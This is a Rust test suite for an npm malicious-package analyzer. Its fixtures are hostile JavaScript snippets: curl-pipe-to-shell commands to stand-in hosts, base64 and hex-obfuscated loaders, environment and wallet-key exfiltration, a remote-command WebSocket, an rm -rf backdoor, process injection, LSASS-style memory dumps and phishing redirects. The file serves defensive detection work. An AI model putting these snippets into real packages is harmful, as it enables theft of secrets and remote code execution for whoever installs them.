//! What several files, or a small file without a flow between its parts, do together.
#![expect(clippy::unwrap_used, reason = "test code")]

use packguard_javascript::JavaScript;
use packguard_sdk::testing::PackageBuilder;
use packguard_sdk::{Analysis, Analyzer as _, Severity};

fn package(files: &[(&str, &str)]) -> Analysis {
    let mut builder = PackageBuilder::new("npm", "sample");
    for (path, content) in files {
        builder = builder.file(&format!("package/{path}"), content);
    }
    JavaScript::analyze(&builder.build()).unwrap()
}

const MAIN: (&str, &str) = ("package.json", r#"{"name":"sample","main":"index.js"}"#);
const INSTALL: (&str, &str) = (
    "package.json",
    r#"{"name":"sample","scripts":{"postinstall":"node i.js"}}"#,
);

fn import(code: &str) -> Analysis {
    package(&[MAIN, ("index.js", code)])
}

fn install(code: &str) -> Analysis {
    package(&[INSTALL, ("i.js", code)])
}

#[track_caller]
fn finds(analysis: &Analysis, rule: &str) {
    let found = analysis
        .findings()
        .iter()
        .any(|finding| finding.rule == rule && finding.severity >= Severity::High);
    assert!(found, "{rule}: {:?}", analysis.findings());
}

#[track_caller]
fn quiet(analysis: &Analysis) {
    let loud = analysis
        .findings()
        .iter()
        .find(|finding| finding.severity >= Severity::Medium);
    assert!(loud.is_none(), "{loud:?}");
}

#[test]
fn data_is_followed_from_file_to_file() {
    finds(
        &package(&[
            MAIN,
            (
                "index.js",
                "const { run } = require('./run'); fetch('https://a.example/x').then(r => r.text()).then(t => run(t));",
            ),
            (
                "run.js",
                "exports.run = function (text) { new Function('require', text)(require); };",
            ),
        ]),
        "js-download-eval",
    );
    finds(
        &package(&[
            (
                "package.json",
                r#"{"name":"sample","type":"module","main":"index.js"}"#,
            ),
            (
                "index.js",
                "import { line as command } from './line.js'; import cp from 'child_process'; cp.exec(command);",
            ),
            (
                "line.js",
                "const host = 'https://a.example/'; export const line = 'curl -s ' + host + 'x.sh | sh';",
            ),
        ]),
        "js-shell-download-run",
    );
    finds(
        &package(&[
            INSTALL,
            (
                "i.js",
                "const c = require('./c.json'); require('child_process').execSync(`curl -sL ${c.from} | sh`);",
            ),
            ("c.json", r#"{"from":"https://a.example/x"}"#),
        ]),
        "js-shell-download-run",
    );
    quiet(&package(&[
        MAIN,
        (
            "index.js",
            "const { get } = require('./get'); module.exports = u => get(u).then(JSON.parse);",
        ),
        ("get.js", "exports.get = u => fetch(u).then(r => r.text());"),
    ]));
}

#[test]
fn code_in_addresses_and_workers_is_read() {
    finds(
        &import(
            "import('data:text/javascript;base64,cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgaHR0cHM6Ly9hLmV4YW1wbGUveCB8IHNoJyk=');",
        ),
        "js-shell-download-run",
    );
    finds(
        &import(
            "const { Worker } = require('worker_threads'); new Worker(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgaHR0cHM6Ly9hLmV4YW1wbGUveCB8IHNoJyk=', 'base64').toString(), { eval: true });",
        ),
        "js-shell-download-run",
    );
    quiet(&import(
        "const { Worker } = require('worker_threads'); new Worker(__dirname + '/w.js', { workerData: 1 });",
    ));
}

#[test]
fn commands_from_elsewhere_are_found() {
    finds(
        &install(
            "const { exec } = require('child_process'); const parts = require('fs').readFileSync('x').toString(); exec(Buffer.from(parts, 'base64').toString());",
        ),
        "js-shell-decode-run",
    );
    finds(
        &install(
            "const s = require('child_process').spawn('sh', []); fetch('https://a.example/x').then(r => r.text()).then(t => s.stdin.end(t));",
        ),
        "js-remote-command",
    );
    finds(
        &import(
            "const W = require('ws'), cp = require('child_process'); const on = { run: m => cp.exec(m.arg) }; const s = new W('wss://c.example/a'); s.on('message', d => { const m = JSON.parse(d); on[m.t](m); });",
        ),
        "js-remote-command",
    );
    finds(
        &import("const start = globalThis.helper; start('curl -s https://a.example/x | bash');"),
        "js-shell-download-run",
    );
    finds(
        &install(
            "const cp = require('child_process'); cp.execSync('curl -o /tmp/agent https://a.example/a'); cp.execSync('chmod +x /tmp/agent'); cp.spawn('/tmp/agent');",
        ),
        "js-shell-download-run",
    );
    finds(
        &import("process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh'] });"),
        "js-hidden-call",
    );
    quiet(&import("process.binding('natives');"));
    quiet(&import(
        "console.log('To install: curl -s https://a.example/x | bash'); const W = require('ws'); new W('wss://c.example/a').on('message', console.log);",
    ));
}

#[test]
fn code_is_made_of_what_a_small_file_holds() {
    finds(
        &import(
            "const p = require('os').tmpdir() + '/u.js'; require('fs').writeFileSync(p, Buffer.from('cmVxdWlyZSgneCcp', 'base64')); require(p);",
        ),
        "js-decode-eval",
    );
    let numbers = (0..80).map(|at| (at + 40).to_string()).collect::<Vec<_>>();
    let code = format!(
        "class D {{ run(a) {{ return a.map(x => this.one(x)).join(''); }} one(x) {{ return helper(x); }} }} (0, eval)(new D().run([{}]));",
        numbers.join(",")
    );
    finds(&import(&code), "js-decode-eval");
    quiet(&import("(0, eval)(process.argv[2]);"));
    finds(
        &install(
            "const { pipeline } = require('stream/promises'), fs = require('fs'), cp = require('child_process'); (async () => { const r = await fetch('https://d.example/agent'); const p = '/tmp/agent'; await pipeline(r.body, fs.createWriteStream(p)); cp.execFile(p); })();",
        ),
        "js-download-execute",
    );
}

#[test]
fn programs_in_disguise_are_found() {
    finds(
        &install(
            "const fs = require('fs'), cp = require('child_process'), path = require('path'); const to = '/tmp/.x'; fs.copyFileSync(path.join(__dirname, 'table.dat'), to); fs.chmodSync(to, 0o755); cp.spawn(to);",
        ),
        "js-bundled-program",
    );
    finds(
        &install(
            "require('child_process').spawn('rundll32', [require('path').join(__dirname, 'a.dll') + ',main']);",
        ),
        "js-bundled-program",
    );
    finds(
        &import("process.dlopen({ exports: {} }, require('path').join(__dirname, 'inter.woff2'));"),
        "js-bundled-program",
    );
    quiet(&install(
        "require('fs').copyFileSync(__dirname + '/table.dat', __dirname + '/copy.dat');",
    ));
    quiet(&import(
        "process.dlopen({ exports: {} }, require('path').join(__dirname, 'a.node'));",
    ));
}

#[test]
fn other_packages_and_processes_are_left_alone() {
    let write = "const fs = require('fs'), path = require('path'); fs.appendFileSync(path.join(__dirname, '..', 'other', 'index.js'), text);";
    finds(&install(write), "js-patches-package");
    quiet(&package(&[
        (
            "package.json",
            r#"{"name":"sample","scripts":{"postinstall":"node tools/i.js"}}"#,
        ),
        ("tools/i.js", write),
    ]));
    finds(
        &import(
            "const k = require('ffi-napi').Library('kernel32', {}); exports.f = h => { const m = k.VirtualAllocEx(h, 0, 9, 1, 1); k.WriteProcessMemory(h, m, 'x', 9, null); k.CreateRemoteThread(h, 0, 0, 1, m, 0, 0); };",
        ),
        "js-process-injection",
    );
    quiet(&import(
        "exports.names = ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'];",
    ));
    finds(
        &import(
            "require('child_process').execSync(`rundll32 C:\\\\Windows\\\\System32\\\\comsvcs.dll, MiniDump ${pid} l.dmp full`);",
        ),
        "js-memory-dump",
    );
    quiet(&import("exports.bad = ['comsvcs.dll MiniDump'];"));
    finds(
        &import("require.extensions['.gif'] = require.extensions['.js']; require('./a.gif');"),
        "js-data-eval",
    );
    quiet(&import(
        "require.extensions['.ts'] = require.extensions['.js'];",
    ));
}

#[test]
fn output_that_is_piped_is_no_shell() {
    quiet(&import(
        "const net = require('net'), cp = require('child_process'); exports.f = (port, out) => { net.connect(port, 'localhost'); const c = cp.spawn('sh', ['x.sh']); c.stdout.pipe(process.stdout); };",
    ));
}

#[test]
fn what_decoders_cut_by_a_pattern_is_put_together() {
    let code = "function a(s){return s.match(/../g).map(x=>String.fromCharCode(parseInt(x,16))).join('')}
const r=require, h=r(a('6874747073'));
const q=h.request({hostname:a('612e6578616d706c65'),path:'/x',method:'POST'},res=>{let d='';res.on('data',c=>d+=c);res.on('end',()=>{try{(0,eval)(d)}catch(e){}})});
q.write(JSON.stringify({...process.env}));q.end();";
    finds(&import(code), "js-exfiltrate-environment");
    finds(&import(code), "js-download-eval");
}

#[test]
fn a_site_of_the_package_is_its_own_wherever_it_keeps_its_files() {
    let manifest = r#"{"name":"sample","repository":"https://git.acme.example/js.git","scripts":{"postinstall":"node i.js"}}"#;
    let code = |host: &str| {
        format!(
            "const fs=require('fs'),cp=require('child_process');(async()=>{{const r=await fetch('https://{host}/x');
const f=__dirname+'/tool';fs.writeFileSync(f,Buffer.from(await r.arrayBuffer()),{{mode:0o755}});cp.execFileSync(f,['--version']);}})();"
        )
    };
    let ours = code("packages.acme.example");
    quiet(&package(&[("package.json", manifest), ("i.js", &ours)]));
    let other = code("packages.other.example");
    finds(
        &package(&[("package.json", manifest), ("i.js", &other)]),
        "js-download-execute",
    );
}

#[test]
fn secrets_in_letters_to_a_fixed_address_are_told() {
    let code = |to: &str| {
        format!(
            "const m=require('nodemailer').createTransport({{service:'gmail'}});
exports.start=(o)=>m.sendMail({{to:{to},text:process.env.PRIVATE_KEY}},()=>{{}});"
        )
    };
    finds(&import(&code("'a@b.example'")), "js-exfiltrate-environment");
    quiet(&import(&code("o.to")));
}

#[test]
fn a_server_s_function_that_sweeps_the_folder_is_a_door() {
    let code = "const {exec}=require('child_process');module.exports=()=>function(req,res,next){
if(req.body.key==='x'){exec('rm -rf *',{cwd:'/void'},()=>res.end());return;}next();};";
    finds(&import(code), "js-backdoor");
}

#[test]
fn keys_cut_into_headers_are_followed() {
    let code = "const bs58=require('bs58');async function queue(a){const b=bs58.encode(a);
await fetch('https://rpc.example/q',{headers:{'x-a':b.substring(0,24).split('').reverse().join('')}}).catch(()=>{});}
class Keypair{static fromSecretKey(secretKey){queue(secretKey);return new Keypair();}}exports.Keypair=Keypair;";
    finds(&import(code), "js-exfiltrate-wallet-keys");
}

#[test]
fn a_page_left_by_a_call_is_left_too() {
    finds(
        &import(
            "function go(){var u='https://login.example/x?em=';var m='victim'+String.fromCharCode(64)+'void.example';window.location.replace(u+'#'+m);}go();",
        ),
        "js-redirects-visitor",
    );
    quiet(&import(
        "window.location.replace('https://login.example/x?next=/home');",
    ));
}

#[test]
fn code_put_into_other_packages_is_told_by_what_it_reaches() {
    let code = |put: &str| {
        format!(
            "const fs=require('fs'),path=require('path');for(const rel of ['node_modules/x/a.js','node_modules/y/b.js']){{
const f=path.join(process.env.INIT_CWD||'../..',rel);let s=fs.readFileSync(f,'utf8');s=s.replace(/seed/g,m=>m+`{put}`);fs.writeFileSync(f,s);}}"
        )
    };
    finds(
        &install(&code(
            "try{require('https').get('https://seed.example/?k='+k)}catch(e){}",
        )),
        "js-patches-package",
    );
    quiet(&install(&code("/* patched */")));
}

#[test]
fn code_that_modules_hold_in_pieces_is_told() {
    let pieces = [
        ("parts/a.js", "module.exports = 'a();';"),
        ("parts/b.js", "module.exports = 'b();';"),
        MAIN,
        (
            "index.js",
            "const M=require('module');const m=new M('f',module);m._compile(['a','b'].map((n)=>require('./parts/'+n)).join(''),__filename);",
        ),
    ];
    finds(&package(&pieces), "js-data-eval");
}
